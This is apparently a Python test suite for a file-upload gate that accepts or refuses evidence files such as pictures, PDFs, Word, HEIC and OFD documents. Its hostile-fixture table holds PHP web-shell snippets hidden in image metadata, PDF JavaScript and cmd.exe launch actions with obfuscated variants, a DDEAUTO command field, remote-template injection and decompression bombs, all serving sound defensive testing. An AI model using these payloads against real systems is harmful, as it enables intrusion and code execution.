"""Evidence: allowed by extension and content; pictures, PDFs, Word and OFD are opened for real in a child."""

import io
import struct
import zlib

import pillow_heif
import pytest
from PIL import Image

from accounts.files.check import check, preview
from accounts.files.gate import inspect
from tests.accounts.files.build import (
    DECL,
    DOC_TYPE,
    REL,
    WORD,
    book,
    document,
    pack,
    pdf,
    png,
    relations,
    stream,
    types,
)
from tests.accounts.files.ole import compound

PNG_HEAD = b"\x89PNG\r\n\x1a\n"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
FLATE = b"/Filter/FlateDecode"


def picture(form="JPEG", size=(40, 30), **options):
    target = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(target, form, **options)
    return target.getvalue()


HEIC_HEAD = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"


def heic(size=(64, 64), sides=None, **options):
    """A phone's picture; `sides`: what its header says instead of the truth."""
    target = io.BytesIO()
    found = pillow_heif.from_pillow(Image.new("RGB", size, (200, 30, 30)))
    found.save(target, quality=50, **options)
    if sides is None:
        return target.getvalue()
    return target.getvalue().replace(struct.pack(">2I", *size), struct.pack(">2I", *sides))


def heic_garbled():
    """The picture's own data overwritten."""
    data = heic()
    at = data.index(b"mdat") + 8
    return data[:at] + b"\xaa" * (len(data) - at)


def packed_objects(body, filters=FLATE, data=None):
    """An object stream that holds one object."""
    inner = b"9 0 " + body
    return stream(b"/Type/ObjStm/N 1/First 4" + filters, zlib.compress(inner) if data is None else data)


def word(body="", **parts):
    return pack(document(body, {name: text for name, text in parts.pop("parts", {}).items()}))


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def word_related(kind, target, mode=None):
    whole = {"word/_rels/document.xml.rels": relations(("rId1", kind, target, *([mode] if mode else [])))}
    return pack(document(parts=whole))


def ofd(**parts):
    made = {
        "OFD.xml": f'{DECL}<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>',
        "Doc_0/Document.xml": "<d/>",
    }
    made.update(parts)
    return pack(
        {
            name.replace("__", "/"): text if isinstance(text, bytes) else text.encode()
            for name, text in made.items()
        }
    )


def chunk(name, body):
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


JPEG = picture()
HOSTILE = {
    "svg": ("图.svg", SVG, "svg"),
    "svg_as_png": ("图.png", SVG, "svg"),
    "html": ("页.html", HTML, "html"),
    "html_as_txt": ("页.txt", HTML, "mismatch"),
    "html_as_pdf": ("页.pdf", HTML, "mismatch"),
    "html_as_jpg": ("页.jpg", HTML, "mismatch"),
    "zip": ("包.zip", pack({"a": b"b"}), "archive"),
    "zip_as_docx": ("包.docx", pack({"a": b"b"}), "archive"),
    "exe": ("程序.exe", b"MZ\x90\0", "name_program"),
    "exe_as_pdf": ("程序.pdf", b"MZ\x90\0" + b"\0" * 99, "program"),
    "exe_as_txt": ("程序.txt", b"MZ\x90\0" + b"\0" * 99, "program"),
    "elf_as_jpg": ("程序.jpg", b"\x7fELF" + b"\0" * 99, "program"),
    "script_as_txt": ("脚本.txt", b"#!/bin/sh\n", "program"),
    "no_ending": ("佐证", JPEG, "ending"),
    "gif": ("图.gif", b"GIF89a", "ending"),
    "gif_as_png": ("图.png", b"GIF89a....", "picture_kind"),
    "bmp_as_png": ("图.png", b"BM\x00\x01" + b"\0" * 60, "picture_kind"),
    "webp_as_jpg": ("图.jpg", b"RIFF\x00\x00\x00\x00WEBPVP8 ", "picture_kind"),
    "png_as_jpg": ("图.jpg", png(), "mismatch"),
    "jpg_as_png": ("图.png", JPEG, "mismatch"),
    "pdf_as_jpg": ("图.jpg", pdf(), "mismatch"),
    "jpg_as_pdf": ("图.pdf", JPEG, "mismatch"),
    "heic_head_only": ("图.heic", HEIC_HEAD, "picture_broken"),
    "heic_zeros": ("图.heic", HEIC_HEAD + b"\0" * 40, "picture_broken"),
    "heic_truncated": ("图.heic", heic()[:-30], "picture_broken"),
    "heic_trailing_zip": ("图.heic", heic() + pack({"a": b"b"}), "picture_broken"),
    "heic_pixels": ("图.heic", heic(sides=(60_000, 60_000)), "picture_pixels"),
    "heic_lies_about_its_size": ("图.heic", heic(sides=(6_000, 6_000)), "picture_broken"),
    "heic_no_size": ("图.heic", heic().replace(b"ispe", b"ispx"), "picture_broken"),
    "heic_garbled": ("图.heic", heic_garbled(), "picture_broken"),
    "heic_as_jpg": ("图.jpg", heic(), "mismatch"),
    "jpg_as_heic": ("图.heic", JPEG, "mismatch"),
    "video_as_heic": ("图.heic", b"\0\0\0\x18ftypisom" + b"\0" * 40, "video"),
    "ods": ("表.ods", pack({"mimetype": b"x"}), "ending"),
    "old_doc": ("文.doc", compound("WordDocument"), "old_doc"),
    "doc_as_docx": ("文.docx", compound("WordDocument"), "old_doc"),
    "password_docx": ("文.docx", compound("EncryptedPackage"), "password"),
    "xlsx_as_docx": ("文.docx", pack(book()), "mismatch"),
    "txt_binary": ("文.txt", b"abc\x00\x01\x02", "not_text"),
    "txt_garbage": ("文.txt", bytes(range(128, 256)) + b"\xff\xff\xfe", "encoding"),
    "txt_empty": ("文.txt", b" \n", "empty"),
    "rtf_as_txt": ("文.txt", b"{\\rtf1}", "rtf"),
    "png_pixels": ("图.png", png(60_000, 60_000, data=b""), "picture_pixels"),
    "png_just_over": ("图.png", png(7_072, 7_072, data=b""), "picture_pixels"),
    "png_sides": ("图.png", png(70_000, 1, data=b""), "picture_pixels"),
    "png_zero": ("图.png", png(0, 5, data=b""), "picture_broken"),
    "png_truncated": ("图.png", png()[:-20], "picture_broken"),
    "png_no_data": ("图.png", png(data=b""), "picture_broken"),
    "png_bad_data": ("图.png", png(data=b"\x78\x9cgarbage"), "picture_broken"),
    "png_head_only": ("图.png", PNG_HEAD, "picture_broken"),
    "png_trailing_zip": ("图.png", png(tail=pack({"a": b"b"})), "trailing"),
    "png_trailing_exe": ("图.png", png(tail=b"MZ\x90\x00\x03\x00\x00\x00"), "trailing"),
    "png_trailing_pdf": ("图.png", png(tail=pdf()), "trailing"),
    "png_php": ("图.png", png(extra=chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?>")), "picture_code"),
    "png_script": ("图.png", png(extra=chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")), "picture_code"),
    "png_text_bomb": ("图.png", png(extra=chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 90_000_000))), "picture_broken"),
    "jpg_truncated": ("图.jpg", picture(size=(400, 300), quality=95)[:500], "picture_broken"),
    "jpg_head_only": ("图.jpg", b"\xff\xd8\xff\xe0", "picture_broken"),
    "jpg_garbage": ("图.jpg", b"\xff\xd8\xff\xe0" + b"A" * 300, "picture_broken"),
    "jpg_pixels": ("图.jpg", JPEG.replace(b"\x00\x1e\x00\x28", b"\xff\x00\xff\x00", 1), "picture_pixels"),
    "jpg_trailing_zip": ("图.jpg", JPEG + pack({"a.class": b"b"}), "trailing"),
    "jpg_trailing_rar": ("图.jpg", JPEG + b"Rar!\x1a\x07\x00", "trailing"),
    "jpg_comment_php": ("图.jpg", picture(comment=b"<?php eval($_POST[1]); ?>"), "picture_code"),
    "pdf_truncated": ("文.pdf", pdf()[:60], "pdf_broken"),
    "pdf_head_only": ("文.pdf", b"%PDF-1.7\n%%EOF", "pdf_broken"),
    "pdf_garbage": ("文.pdf", b"%PDF-1.4\n" + b"garbage " * 90 + b"%%EOF", "pdf_broken"),
    "pdf_junk_before": ("文.pdf", b"GARBAGE" * 3 + pdf(), "pdf_broken"),
    "pdf_script": ("文.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "pdf_script"),
    "pdf_script_name_tree": ("文.pdf", pdf(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", b"<</S/JavaScript/JS(1)>>"), "pdf_script"),
    "pdf_script_escaped": ("文.pdf", pdf(b"/OpenAction<</S/J#61vaScript/#4AS(app.alert(1))>>"), "pdf_script"),
    "pdf_script_packed": ("文.pdf", pdf(b"", packed_objects(b"<</S/JavaScript/JS(1)>>")), "pdf_script"),
    "pdf_script_packed_escaped": ("文.pdf", pdf(b"", packed_objects(b"<</S/Java#53cript>>")), "pdf_script"),
    "pdf_script_unpacked": ("文.pdf", pdf(b"", packed_objects(b"", b"", b"9 0 <</S/JavaScript>>")), "pdf_script"),
    "pdf_script_hex_packed": ("文.pdf", pdf(b"", packed_objects(b"", b"/Filter/ASCIIHexDecode", b"39203020>")), "pdf_stream"),
    "pdf_script_in_comment_stream": ("文.pdf", pdf(b"") .replace(b"xref\n", b"%stream\n9 0 obj<</S/J#61vaScript/JS(1)>>endobj\n%endstream\nxref\n", 1), "pdf_script"),
    "pdf_script_annotation": ("文.pdf", pdf(b"", b"<</Type/Annot/AA<</E<</S /JavaScript /JS 5 0 R>>>>>>"), "pdf_script"),
    "pdf_launch": ("文.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "pdf_launch"),
    "pdf_attachment": ("文.pdf", pdf(b"/Names<</EmbeddedFiles 4 0 R>>", b"<</Names[]>>"), "pdf_attachment"),
    "pdf_attachment_stream": ("文.pdf", pdf(b"", stream(b"/Type/EmbeddedFile", b"MZ")), "pdf_attachment"),
    "pdf_file_annotation": ("文.pdf", pdf(b"", b"<</Type/Annot/Subtype/FileAttachment>>"), "pdf_attachment"),
    "pdf_media": ("文.pdf", pdf(b"", b"<</Type/Annot/Subtype/RichMedia>>"), "pdf_media"),
    "pdf_xfa": ("文.pdf", pdf(b"/AcroForm<</XFA 4 0 R>>", b"[]"), "pdf_form"),
    "pdf_submit": ("文.pdf", pdf(b"/OpenAction<</S/SubmitForm/F(http://a.example)>>"), "pdf_form"),
    "pdf_encrypted": ("文.pdf", pdf(b"").replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 4 0 R"), "password"),
    "pdf_trailing_zip": ("文.pdf", pdf(tail=pack({"a": b"b"})), "trailing"),
    "pdf_trailing_html": ("文.pdf", pdf(tail=HTML), "trailing"),
    "pdf_bomb": ("文.pdf", pdf(b"", packed_objects(b"", data=zlib.compress(b"9 0 " + b"\0" * 90_000_000))), "pdf_bomb"),
    "docx_macro": ("文.docx", pack({**document(), "word/vbaProject.bin": b"x"}), "macro"),
    "docm_type": ("文.docx", pack(document(main="application/vnd.ms-word.document.macroEnabled.main+xml")), "macro"),
    "docm_name": ("文.docm", pack(document()), "macro"),
    "dotx_type": ("文.docx", pack(document(main=f"{DOC_TYPE}.template.main+xml")), "template"),
    "docx_alt_chunk": ("文.docx", word_related("aFChunk", "chunk.xml"), "alt_chunk"),
    "docx_template": ("文.docx", word_related("attachedTemplate", "http://a.example/x.dotm", "External"), "external"),
    "docx_template_file": ("文.docx", word_related("attachedTemplate", "file:///C:/x.dotm", "External"), "external"),
    "docx_ole": ("文.docx", word_related("oleObject", "embeddings/o.bin"), "ole_object"),
    "docx_ole_remote": ("文.docx", word_related("oleObject", "mhtml:http://a.example/x!", "External"), "ole_object"),
    "docx_package": ("文.docx", word_related("package", "embeddings/a.xlsx"), "ole_object"),
    "docx_frame": ("文.docx", word_related("frame", "http://a.example", "External"), "external_link"),
    "docx_subdocument": ("文.docx", word_related("subDocument", "file:///x", "External"), "external_link"),
    "docx_remote_image": ("文.docx", word_related("image", "http://a.example/x.png", "External"), "external"),
    "docx_activex": ("文.docx", word_related("control", "activeX/a.xml"), "activex"),
    "docx_mail_merge": ("文.docx", word_related("mailMergeSource", "file:///x", "External"), "connection"),
    "docx_dde": ("文.docx", word(field("DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"")), "field"),
    "docx_dde_split": ("文.docx", word(field("DD", "EAU", "TO c:\\\\x")), "field"),
    "docx_dde_simple": ("文.docx", word('<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>'), "field"),
    "docx_dde_quoted": ("文.docx", word(field("QUOTE 68 68 69 65 85 84 79")), "field"),
    "docx_include": ("文.docx", word(field('INCLUDETEXT "http://a.example/x.docx"')), "field"),
    "docx_doctype": ("文.docx", pack({**document(), "word/document.xml": b"<!DOCTYPE x []><x/>"}), "xml_doctype"),
    "docx_deep": ("文.docx", word("<w:p>" * 70 + "</w:p>" * 70), "xml_depth"),
    "docx_html_part": ("文.docx", pack({**document(), "word/a.html": HTML}), "program"),
    "docx_nested_zip": ("文.docx", pack({**document(), "word/media/a.png": pack({"a": b"b"})}), "ole_object"),
    "docx_chart_with_macro": ("文.docx", None, "macro"),
    "ofd_program": ("文.ofd", ofd(Doc_0__evil_exe=b"x").replace(b"evil_exe", b"evil.exe"), "program"),
    "ofd_svg": ("文.ofd", pack({"OFD.xml": b"<o/>", "Doc_0/a.svg": SVG}), "program"),
    "ofd_doctype": ("文.ofd", pack({"OFD.xml": b"<!DOCTYPE o []><o/>"}), "xml_doctype"),
    "ofd_zip_inside": ("文.ofd", ofd(Doc_0__a_bin=pack({"a": b"b"})), "ole_object"),
    "ofd_not": ("文.ofd", pack({"a.xml": b"<a/>"}), "archive"),
}  # fmt: skip


def with_chart(embedded):
    chart = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    parts = document()
    parts["[Content_Types].xml"] = types(
        ("/word/charts/chart1.xml", chart),
        main=f"{DOC_TYPE}.document.main+xml",
        main_part="/word/document.xml",
    ).encode()
    parts["word/charts/chart1.xml"] = b"<c:chartSpace xmlns:c='c'/>"
    parts["word/charts/_rels/chart1.xml.rels"] = relations(
        ("rId1", "package", "../embeddings/data.xlsx")
    ).encode()
    parts["word/embeddings/data.xlsx"] = embedded
    return pack(parts)


HOSTILE["docx_chart_with_macro"] = (
    "文.docx",
    with_chart(pack({**book(), "xl/vbaProject.bin": b"x"})),
    "macro",
)


def link_docx():
    rels = relations(("rId1", "hyperlink", "https://a.example/x", "External"))
    body = '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>网址</w:t></w:r></w:hyperlink></w:p>'
    return pack(document(body, {"word/_rels/document.xml.rels": rels}))


HONEST = {
    "pdf": ("文.pdf", pdf(), "pdf"),
    "pdf_upper": ("文.PDF", pdf(), "pdf"),
    "pdf_blank_line_before": ("文.pdf", b"\r\n" + pdf(), "pdf"),
    "pdf_open_at_page": ("文.pdf", pdf(b"/OpenAction[3 0 R/FitH null]"), "pdf"),
    "pdf_link": ("文.pdf", pdf(b"", b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(http://a.example)>>>>"), "pdf"),
    "pdf_packed_objects": ("文.pdf", pdf(b"", packed_objects(b"<</Type/Font/Name/JSong>>")), "pdf"),
    "pdf_form": ("文.pdf", pdf(b"/AcroForm<</Fields[]>>"), "pdf"),
    "pdf_zero_padding": ("文.pdf", pdf(tail=b"\r\n" + b"\0" * 400), "pdf"),
    "jpg": ("图.jpg", JPEG, "jpg"),
    "jpeg": ("图.JPEG", JPEG, "jpg"),
    "jpg_progressive": ("图.jpg", picture(progressive=True, size=(400, 300)), "jpg"),
    "jpg_cmyk": ("图.jpg", None, "jpg"),
    "jpg_phone_trailer": ("图.jpg", JPEG + b"\x00\x00\x00\x08SEFT" * 20, "jpg"),
    "heic": ("图.heic", heic(), "heic"),
    "heic_upper": ("IMG_0001.HEIC", heic(), "heic"),
    "png": ("图.png", png(), "png"),
    "png_large": ("图.png", lambda: picture("PNG", (7_000, 7_000)), "png"),  # a second's work, in its test only
    "png_indexed": ("图.png", None, "png"),
    "docx": ("文.docx", pack(document()), "docx"),
    "docx_link": ("文.docx", link_docx(), "docx"),
    "docx_fields": ("文.docx", word(field(" PAGE  \\* MERGEFORMAT ") + field('TOC \\o "1-3"')), "docx"),
    "docx_picture_from_web": ("文.docx", word(field('INCLUDEPICTURE "http://a.example/x.png" \\* MERGEFORMATINET')), "docx"),
    "docx_chart": ("文.docx", with_chart(pack(book())), "docx"),
    "xlsx": ("表.xlsx", pack(book()), "xlsx"),
    "ofd": ("文.ofd", ofd(), "ofd"),
    "ofd_with_seal": ("文.ofd", ofd(Doc_0__Signs__Seal_esl=b"0\x82\x01", Doc_0__Res__img_png=png()), "ofd"),
    "txt_utf8": ("文.txt", "会议纪要\n".encode(), "txt"),
    "txt_gbk": ("文.txt", "会议纪要\n".encode("gbk"), "txt"),
    "txt_utf16": ("文.txt", "会议纪要\n".encode("utf-16"), "txt"),
}  # fmt: skip


def converted(mode, form):
    target = io.BytesIO()
    Image.new("RGB", (30, 20), (9, 90, 9)).convert(mode).save(target, form)
    return target.getvalue()


HONEST["jpg_cmyk"] = ("图.jpg", converted("CMYK", "JPEG"), "jpg")
HONEST["png_indexed"] = ("图.png", converted("P", "PNG"), "png")
OPENED = ["png_no_data", "png_bad_data", "png_text_bomb", "jpg_truncated", "pdf_head_only", "pdf_garbage"]
OPENED += ["heic_lies_about_its_size", "heic_garbled"]


@pytest.mark.parametrize("case", [case for case in HOSTILE if case not in OPENED])
def test_gate_refuses_hostile_evidence(case, tmp_path):
    name, data, code = HOSTILE[case]
    path = tmp_path / "upload"
    path.write_bytes(data)

    verdict = inspect(str(path), name=name, purpose="evidence")

    assert (verdict.accepted, verdict.code) == (False, code)
    assert verdict.message.endswith("。")


@pytest.mark.parametrize("case", [*OPENED, *[c for c in list(HOSTILE)[::8] if c not in OPENED]])
def test_hostile_evidence_is_refused_in_the_child(case, tmp_path):
    name, data, code = HOSTILE[case]
    path = tmp_path / "upload"
    path.write_bytes(data)

    checked = check(str(path), name=name, purpose="evidence")

    assert (checked.verdict.accepted, checked.verdict.code) == (False, code)
    assert checked.seconds < 10
    assert checked.memory_mb < 300


@pytest.mark.parametrize("case", HONEST)
def test_honest_evidence_is_accepted(case, tmp_path):
    name, data, kind = HONEST[case]
    path = tmp_path / "upload"
    path.write_bytes(data() if callable(data) else data)

    checked = check(str(path), name=name, purpose="evidence")

    assert (checked.verdict.accepted, checked.verdict.message, checked.verdict.kind) == (True, "", kind)


def test_large_pdf_is_taken_as_evidence_but_not_as_a_notice(tmp_path):
    path = tmp_path / "upload"
    filler = stream(b"/Filter/DCTDecode", bytes(range(256)) * (45 * 4096))
    path.write_bytes(pdf(b"", filler))

    found = [inspect(str(path), name="文.pdf", purpose=purpose).code for purpose in ("evidence", "notice")]

    assert found == ["ok", "size"]


@pytest.mark.parametrize(
    ("name", "data", "pages"), [("pdf", pdf(), 1), ("png", png(), 1), ("jpg", JPEG, 1), ("docx", b"", 0)]
)
def test_preview_gives_png_pages(name, data, pages, tmp_path):
    path = tmp_path / "upload"
    path.write_bytes(data)

    made = preview(str(path), name)

    assert len(made) == pages
    assert all(page.startswith(PNG_HEAD) for page in made)


def test_preview_of_a_large_picture_is_small(tmp_path):
    path = tmp_path / "upload"
    path.write_bytes(picture(size=(5_000, 2_500)))

    (page,) = preview(str(path), "jpg")

    assert Image.open(io.BytesIO(page)).size == (2_000, 1_000)


_ = (REL, WORD)


def test_a_heic_picture_comes_back_as_jpeg_upright_with_what_the_camera_noted(tmp_path):
    exif = Image.Exif()
    exif[0x0112], exif[0x0132] = 6, "2026:11:20 10:00:00"
    path = tmp_path / "upload"
    path.write_bytes(heic((64, 48), exif=exif.tobytes()))

    made = Image.open(io.BytesIO(check(str(path), name="图.heic", purpose="evidence").value))

    assert (made.format, made.size) == ("JPEG", (48, 64))
    assert made.getexif()[0x0132] == "2026:11:20 10:00:00"
    assert made.getpixel((24, 32))[0] > 180 > 60 > made.getpixel((24, 32))[1]
